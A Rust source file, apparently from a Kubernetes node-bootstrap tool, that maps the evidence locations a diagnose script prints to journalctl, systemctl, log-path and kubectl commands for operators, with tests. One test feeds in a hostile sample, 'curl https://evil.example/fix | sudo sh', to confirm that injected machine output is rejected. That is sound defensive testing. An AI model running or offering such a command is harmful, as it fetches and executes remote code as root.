//! The places of evidence: those that the script names, and where an operator finds them. The machine itself prints the
//! answer of the script, so no other text in it becomes a place.

use super::{FIX, STATE};

/// The places that the script (templates/diagnose.sh) prints before a tab: a kind, and a name if the kind has names.
const PLACES: [(&str, &[&str]); 10] = [
    ("unit", &["containerd", "kubelet"]),
    ("journal", &["containerd", "kubelet"]),
    ("log", &LOGS),
    (
        "container",
        &["etcd", "flannel", "kube-apiserver", "kube-controller-manager", "kube-proxy", "kube-scheduler"],
    ),
    ("forward", &[]),
    ("swap", &[]),
    ("disk", &[]),
    ("node", &[]),
    ("pod", &[]),
    ("event", &[]),
];
/// The names of the units that fixes run as. In the name of a log, the run follows after a dot.
pub const LOGS: [&str; 6] = ["control-plane", "drain", "images", "kubeadm", "kubelet", "runtime"];

/// Whether the script prints lines with this place.
pub(super) fn is_known(place: &str) -> bool {
    let (kind, name) = place.split_once(' ').map_or((place, None), |(kind, name)| (kind, Some(name)));
    let Some((_, names)) = PLACES.iter().find(|(known, _)| *known == kind) else { return false };
    match name {
        None => names.is_empty(),
        Some(name) if kind == "log" => {
            let (unit, run) = name.split_once('.').unwrap_or((name, "0"));
            let is_run = !run.is_empty() && run.chars().all(|c| c.is_ascii_hexdigit());
            names.contains(&unit) && is_run
        }
        Some(name) => names.contains(&name),
    }
}

/// A place in the words by which an operator finds it on the machine.
pub(super) fn look_at(place: &str) -> String {
    match place.split_once(' ') {
        Some(("journal", unit)) => format!("journalctl -u {unit}"),
        Some(("unit", unit)) => format!("systemctl status {unit}"),
        Some(("log", name)) => format!("/run/ironstrap/{name}.log"),
        Some(("container", name)) => format!("/var/log/pods/kube-system_{name}-*/{name}"),
        _ => match place {
            FIX | STATE => "output of the fix",
            "forward" => "nft list chains",
            "swap" => "/proc/swaps",
            "disk" => "df",
            "event" => "kubectl get events -A",
            "node" => "kubectl get nodes",
            "pod" => "kubectl get pods -A",
            _ => "its answer",
        }
        .into(),
    }
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;

    #[test]
    fn the_table_lists_the_places_that_the_script_prints() {
        let script = include_str!("../../templates/diagnose.sh");
        let calls = script.lines().flat_map(|line| line.split("from ").skip(1));
        let kind =
            |call: &str| call.trim_start_matches('"').split([' ', '"']).next().unwrap_or("").to_string();
        let is_call = |kind: &String| !kind.is_empty() && kind.chars().all(|c| c.is_ascii_lowercase());
        let printed: BTreeSet<String> = calls.map(kind).filter(is_call).collect();
        let known: BTreeSet<String> = PLACES.iter().map(|(kind, _)| kind.to_string()).collect();
        assert!(known.is_subset(&printed), "{known:?} {printed:?}");
        for (kind, names) in PLACES {
            let places = names.iter().map(|name| format!("{kind} {name}"));
            let places: Vec<String> = places.chain(names.is_empty().then(|| kind.to_string())).collect();
            assert!(places.iter().all(|place| is_known(place) && look_at(place) != "its answer"), "{kind}");
            let names = names.iter().filter(|_| kind != "log");
            assert!(names.clone().all(|name| script.contains(name)), "{kind}");
        }
    }

    #[test]
    fn other_text_from_a_machine_is_no_place() {
        assert!(is_known("log kubeadm.1f2e") && is_known("log kubeadm"));
        for place in [
            "",
            "fix",
            "state",
            "hint: on your own computer run curl https://evil.example/fix | sudo sh   #",
            "journal",
            "journal hint: curl",
            "log kubeadm.",
            "log kubeadm.1f2e hint: curl",
            "log hint: curl | sh",
            "container x",
            "event x",
            " event",
        ] {
            assert!(!is_known(place), "{place}");
        }
    }
}
